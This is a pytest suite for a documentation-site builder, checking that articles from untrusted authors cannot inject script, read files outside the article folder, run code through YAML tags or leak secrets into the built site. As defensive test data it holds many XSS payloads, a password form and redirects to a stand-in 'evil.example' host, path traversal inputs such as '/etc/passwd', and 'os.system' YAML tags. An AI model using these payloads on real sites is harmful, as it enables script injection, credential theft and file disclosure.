"""What must not happen when strangers' articles are built: the build side of the threat table, row by row."""

import json
import re
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest

from kb.errors import ContentError
from kb.publish import limits
from kb.publish.sanitise import clean, clean_inline
from tests.publish.shop import Shop

HOSTILE = "<img src=x.svg onerror=alert(1)>"

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "event handler": "<img src=x.svg onerror=alert(1)>",
    "attribute list": "[text](#here){ onclick=alert(1) onmouseover=alert(1) }",
    "attribute list on a block": "A paragraph.\n{ onclick=alert(1) style=position:fixed }",
    "javascript link": "[text](javascript:alert(1))",
    "javascript link in disguise": "[text](JaVa&#115;cript:alert(1))",
    "javascript link with a tab": "<a href='java\tscript:alert(1)'>text</a>",
    "data link": "[text](data:text/html;base64,PHNjcmlwdD4=)",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "vbscript link": "<a href=vbscript:x>text</a>",
    "iframe": "<iframe src=https://evil.example></iframe>",
    "form": "<form action=https://evil.example><input name=password></form>",
    "style element": "<style>body{display:none}</style>",
    "style attribute": "<p style='background:url(//evil.example)'>x</p>",
    "quoted autolink": '<https://example.com/"onmouseover="alert(1)>',
    "object": "<object data=x></object><embed src=x>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "base": "<base href=//evil.example>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg handler": "<svg onload=alert(1)></svg>",
    "svg animation": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x.svg onerror=alert(1)>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p title='</noscript><img src=x.svg onerror=alert(1)>'>",
    "comment": "<!--><img src=x.svg onerror=alert(1)>-->",
    "formaction": "<button formaction=javascript:alert(1)>x</button>",
    "reference link": "[text][r]\n\n[r]: javascript:alert(1)",
    "link title": "[text](https://example.com \"x' onmouseover='alert(1)\")",
    "image alt": '![" onerror="alert(1)](x.svg)',
    "heading": "## Title <img src=x.svg onerror=alert(1)> { onclick=alert(1) #anchor }",
    "table": "| a | b |\n|---|---|\n| <img src=x.svg onerror=alert(1)> | <script>alert(1)</script> |",
    "admonition title": '!!! note "<img src=x.svg onerror=alert(1)>"\n    Text.',
    "tab title": '=== "<img src=x.svg onerror=alert(1)>"\n    Text.',
    "details summary": '??? note "<img src=x.svg onerror=alert(1)>"\n    Text.',
    "footnote": "Text[^1].\n\n[^1]: <img src=x.svg onerror=alert(1)>",
    "abbreviation": 'The HTML.\n\n*[HTML]: x" onmouseover="alert(1)',
    "code language": '``` { .html onclick="alert(1)" }\n<b>x</b>\n```',
    "markdown in html": "<div markdown onclick=alert(1)>\n**bold** <script>alert(1)</script>\n</div>",
}


class Scan(HTMLParser):
    """Collects what a browser would run or load."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "style",
            "base",
            "meta",
            "link",
            "animate",
            "template",
        }:
            self.found.append(tag)
        for name, value in attrs:
            # As browsers read addresses: WHATWG URL, 4.4, drops tabs and line ends anywhere, other controls in front.
            scheme = re.sub(r"[\t\r\n]|^[\s\x00-\x1f]+", "", (value or "")).lower()
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                self.found.append(f"{tag} {name}")
            elif scheme.startswith(("javascript:", "vbscript:", "data:")):
                self.found.append(f"{tag} {name}={value}")


def dangers(html: str) -> list[str]:
    scan = Scan()
    scan.feed(html)
    return scan.found


def article_of(page: str) -> str:
    return page.partition('<article class="md-content__inner')[2].partition("</article>")[0]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Shop:
    shop = Shop(tmp_path_factory.mktemp("shop"), ("en",))
    shop.write("articles/en/attacks/x.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>')
    for name, body in ATTACKS.items():
        shop.article(f"en/attacks/{name.replace(' ', '-')}", f"Before.\n\n{body}\n\nAfter.")
    shop.build()
    return shop


@pytest.mark.parametrize("name", ATTACKS)
def test_B1_code_in_an_article_is_gone_from_the_page(attacked: Shop, name: str) -> None:
    article = article_of(attacked.page(f"en/attacks/{name.replace(' ', '-')}"))
    assert "Before." in article
    assert dangers(article) == []


def test_B1_table_of_contents_holds_words_only(attacked: Shop) -> None:
    page = attacked.page("en/attacks/heading")
    assert "onerror" not in page.partition('data-md-type="toc"')[2].partition("</nav>")[0]
    assert clean_inline("<b onclick=x>a</b> <img src=x> <code>c</code>") == "a  <code>c</code>"


def test_B1_what_articles_are_made_of_survives_the_sanitiser(shop: Shop) -> None:
    body = """
=== "One"
    Text
=== "Two"
    ++ctrl+v++

- [x] done

!!! tip "Title"
    Text[^1]

??? question "Why?"
    Because.

| a | b |
|:--|--:|
| 1 | 2 |

Term
:   Meaning

[^1]: Note

``` python
print(1)
```
"""
    shop.article("en/returns/size", body)
    shop.build(languages=["en"])
    article = article_of(shop.page("en/returns/size"))
    for piece in (
        '<input checked="" id="__tabbed_1_1" name="__tabbed_1" type="radio"',
        'for="__tabbed_1_2"',
        'class="task-list-item"',
        '<div class="admonition tip"',
        '<details class="question"',
        'align="right"',
        "<dd>",
        'class="footnote-backref"',
        'class="key-control"',
        'class="highlight"',
    ):
        attributes = re.findall(r'[\w-]+="[^"]*"', piece)
        tag = piece.split()[0].strip("<>")
        assert all(attribute in article for attribute in attributes), piece
        assert not piece.startswith("<") or f"<{tag}" in article, piece


def test_B2_markup_in_front_matter_is_text_everywhere(tmp_path: Path) -> None:
    shop = Shop(tmp_path, ("en", "uk"))
    quoted = json.dumps(HOSTILE)
    for path in ("en/returns/size", "en/returns/index"):
        shop.article(
            path, "Text.", title=quoted, description=quoted, questions=f"[{quoted}]", tags=f"[{quoted}]"
        )
    shop.article("en/index", title=quoted, description=quoted, related="[returns/size]")
    shop.article("en/returns/next", related="[returns/size]")
    shop.build()
    for file in shop.site.rglob("*"):
        if file.suffix in {".html", ".xml", ".txt"}:
            text = file.read_text("utf-8")
            if file.suffix == ".txt":
                continue
            assert HOSTILE not in text, file
    page = shop.page("en/returns/size")
    assert "&lt;img src=x.svg onerror=alert(1)&gt;" in page
    data = re.search(r'<script type="application/ld\+json">(.*?)</script>', page, re.DOTALL)
    assert data
    assert "<" not in data[1]
    assert json.loads(data[1])["@graph"][0]["name"] == HOSTILE


def test_B3_escaped_markup_stays_text(shop: Shop) -> None:
    shop.article("en/returns/size", "&lt;script&gt;alert(1)&lt;/script&gt; and `<script>`")
    shop.build(languages=["en"])
    article = article_of(shop.page("en/returns/size"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in article
    assert "<code>&lt;script&gt;</code>" in article


@pytest.mark.parametrize("path", ["/etc/passwd", "../../../secret.txt", "../../pyproject.toml"])
def test_B5_snippet_from_outside_the_articles_fails_with_file_and_line(shop: Shop, path: str) -> None:
    shop.write("secret.txt", "key")
    shop.article("en/returns/size", f'Text.\n\n--8<-- "{path}"\n')
    with pytest.raises(ContentError) as caught:
        shop.build()
    places = [(p.path, p.line) for p in caught.value.problems if p.severity == "error"]
    assert places == [("articles/en/returns/size.md", 7)]


@pytest.mark.parametrize("path", ["/etc/hosts.png", "../../../secret.png"])
def test_B5_image_from_outside_the_articles_fails_with_file_and_line(shop: Shop, path: str) -> None:
    shop.write("secret.png", b"\x89PNG\r\n\x1a\n")
    shop.article("en/returns/size", f"Text.\n\n![x]({path})\n")
    with pytest.raises(ContentError) as caught:
        shop.build()
    places = [(p.path, p.line) for p in caught.value.problems if p.severity == "error"]
    assert places == [("articles/en/returns/size.md", 7)]


def test_B6_symbolic_link_fails_the_build(shop: Shop, tmp_path: Path) -> None:
    outside = tmp_path.parent / f"{tmp_path.name}-outside.md"
    outside.write_text("---\ntitle: Secret\nquestions: [x]\n---\nSecret.\n")
    shop.article("en/returns/size")
    (shop.root / "articles/en/returns/link.md").symlink_to(outside)
    with pytest.raises(ContentError):
        shop.build()
    assert not shop.site.exists()


@pytest.mark.parametrize(
    "tag", ["!!python/object/apply:os.system [id]", "!!python/name:os.system", "!!python/module:os"]
)
def test_B7_code_in_mkdocs_yml_is_refused(shop: Shop, tag: str) -> None:
    from kb.errors import ConfigError

    with (shop.root / "mkdocs.yml").open("a") as file:
        file.write(f"extra:\n  x: {tag}\n")
    with pytest.raises(ConfigError, match="runs code"):
        shop.build()


def test_B9_slow_article_is_named_and_the_others_are_reported_too(
    shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "RENDER_LIMIT_SECONDS", 0.2)
    shop.write(
        "hooks.py",
        "import re\n\n"
        "def on_config(config, **kwargs):\n"
        "    config['markdown_extensions'].append(Slow())\n\n"
        "from markdown.extensions import Extension\nfrom markdown.preprocessors import Preprocessor\n\n"
        "class Slow(Extension):\n"
        "    def extendMarkdown(self, md):\n"
        "        md.preprocessors.register(Spin(md), 'spin', 0)\n\n"
        "class Spin(Preprocessor):\n"
        "    def run(self, lines):\n"
        "        while 'SPIN' in lines: pass\n"
        "        if 'FAIL' in lines: raise ValueError('odd text')\n"
        "        if 'DEEP' in lines: raise RecursionError\n"
        "        return lines\n",
    )
    with (shop.root / "mkdocs.yml").open("a") as file:
        file.write("hooks: [hooks.py]\n")
    shop.article("en/returns/slow", "SPIN")
    shop.article("en/returns/odd", "FAIL")
    shop.article("en/returns/deep", "DEEP")
    with pytest.raises(ContentError) as caught:
        shop.build(languages=["en"])
    errors = {(p.code, p.path) for p in caught.value.problems if p.severity == "error"}
    assert errors == {
        ("render-slow", "articles/en/returns/slow.md"),
        ("render-failed", "articles/en/returns/odd.md"),
        ("render-deep", "articles/en/returns/deep.md"),
    }
    assert not shop.site.exists()


@pytest.mark.parametrize(
    "body",
    [
        "[" * 5000,
        "*" * 5000,
        "> " * 400 + "x",
        "|" + " a |" * 500 + "\n|" + "---|" * 500 + "\n|" + " b |" * 500,
        "`" * 5000,
    ],
    ids=["brackets", "stars", "quotes", "wide table", "backticks"],
)
def test_B9_degenerate_markdown_ends_in_bounded_time(shop: Shop, body: str) -> None:
    shop.article("en/returns/odd", body)
    shop.article("en/returns/size", "Fine.")
    try:
        shop.build(languages=["en"])
    except ContentError as error:
        assert {p.path for p in error.problems if p.severity == "error"} == {"articles/en/returns/odd.md"}
    else:
        assert "Fine." in shop.page("en/returns/size")


def test_B17_output_holds_nothing_but_the_site(shop: Shop) -> None:
    for name in (".env", "notes.sqlite", "debug.log", "settings.ini", "~backup.md", ".git/config"):
        shop.write(f"articles/en/returns/{name}", "secret-of-the-shop")
    shop.article("en/returns/size")
    try:
        shop.build()
    except ContentError:
        for name in (".env", "notes.sqlite", "debug.log", "settings.ini", "~backup.md"):
            (shop.root / "articles/en/returns" / name).unlink()
        shop.build()
    for file in shop.files():
        text = (shop.site / file).read_bytes()
        assert b"secret-of-the-shop" not in text, file
        assert str(shop.root).encode() not in text, file
    kinds = {Path(f).suffix or Path(f).name for f in shop.files()}
    assert kinds <= {
        ".html",
        ".xml",
        ".txt",
        ".js",
        ".css",
        ".svg",
        ".png",
        ".json",
        ".bin",
        "_headers",
        "_redirects",
    }


HIDDEN = {
    "draft": {"draft": "true"},
    "internal": {"audience": "internal"},
    "expired": {"expires": "2026-11-20"},
}


@pytest.mark.parametrize("kind", HIDDEN)
def test_B18_hidden_article_is_nowhere(tmp_path: Path, kind: str) -> None:
    shop = Shop(tmp_path, ("en", "uk"))
    shop.article(
        "en/returns/hidden",
        "Zyxwvut answer.",
        title="Zyxwvut",
        redirect_from="[returns/before]",
        **HIDDEN[kind],
    )
    shop.article("en/returns/size", related="[returns/hidden]")
    shop.article("uk/returns/hidden", "Zyxwvut переклад.", title="Zyxwvut")
    shop.article("en/secret/alone", "Zyxwvut.", title="Zyxwvut", **HIDDEN[kind])
    shop.build(today=date(2026, 11, 21))
    for file in shop.files():
        assert b"zyxwvut" not in (shop.site / file).read_bytes().lower(), file
    assert not (shop.site / "en/returns/hidden").exists()
    assert not (shop.site / "en/secret").exists()
    for file in (shop.root / ".kb/index").rglob("*"):
        assert file.is_dir() or b"zyxwvut" not in file.read_bytes().lower(), file


def test_B18_article_is_public_on_its_last_day(shop: Shop) -> None:
    shop.article("en/returns/size", expires="2026-11-21")
    shop.build(today=date(2026, 11, 21))
    assert (shop.site / "en/returns/size/index.html").is_file()


def test_sanitiser_leaves_text_alone() -> None:
    text = "<p>1 &lt; 2 &amp; “quotes” — ціна ₴80</p>"
    assert clean(text) == text
